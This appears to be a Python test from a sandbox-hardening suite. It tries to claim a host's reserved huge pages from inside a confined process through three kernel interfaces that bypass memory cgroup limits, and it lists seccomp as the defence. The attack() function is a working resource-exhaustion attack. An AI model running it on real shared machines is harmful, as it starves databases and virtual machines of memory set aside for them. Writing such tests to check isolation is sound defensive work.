"""Take the machine's huge pages.

Technique: huge pages that the administrator set aside (vm.nr_hugepages, for databases or virtual machines) are for anybody who
    asks: mmap(MAP_HUGETLB), memfd_create(MFD_HUGETLB), shmget(SHM_HUGETLB). No memory cgroup of version 1 is charged for them,
    one of version 2 only where it is mounted so.
Success: a huge page of the machine is in use here.
Stopped by: seccomp
"""
import mmap

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
MAP_HUGETLB, MFD_HUGETLB, SHM_HUGETLB, IPC_PRIVATE, IPC_RMID = 0x40000, 4, 0o4000, 0, 0


def free_pages():
    with open("/proc/meminfo") as file:
        found = {line.split(":")[0]: int(line.split()[1]) for line in file}
    return found.get("HugePages_Free", 0), found.get("Hugepagesize", 2048) << 10


def by_mapping(length):
    return mmap.mmap(-1, length, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | MAP_HUGETLB)


def by_file(length):
    file = os.memfd_create("huge", MFD_HUGETLB)
    os.ftruncate(file, length)
    return mmap.mmap(file, length)


def by_segment(length):
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(IPC_PRIVATE, ctypes.c_size_t(length), 0o600 | SHM_HUGETLB)
    if segment == -1:
        raise OSError(ctypes.get_errno(), "SHM_HUGETLB")
    place = libc.shmat(segment, None, 0)
    libc.shmctl(segment, IPC_RMID, None)
    return (ctypes.c_char * length).from_address(place)


def attack():
    free, size = free_pages()
    wanted = max(1, min(free, 4 * LIMIT // size // 3)) * size
    held, refused = [], None
    for way in (by_mapping, by_file, by_segment):
        try:
            memory = way(wanted)
        except OSError as error:
            refused = error
            continue
        for offset in range(0, wanted, size):
            memory[offset] = 1 if isinstance(memory, mmap.mmap) else b"\1"
        held.append(memory)
    if held:
        return f"holds {len(held) * wanted >> 20} MB of the machine's {free} huge pages"
    raise refused


def twin():
    """Transparent huge pages, which are ordinary memory."""
    memory = mmap.mmap(-1, 8 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    memory.madvise(mmap.MADV_HUGEPAGE)
    memory[::4096] = b"x" * 2048
    assert memory[:].count(b"x") == 2048
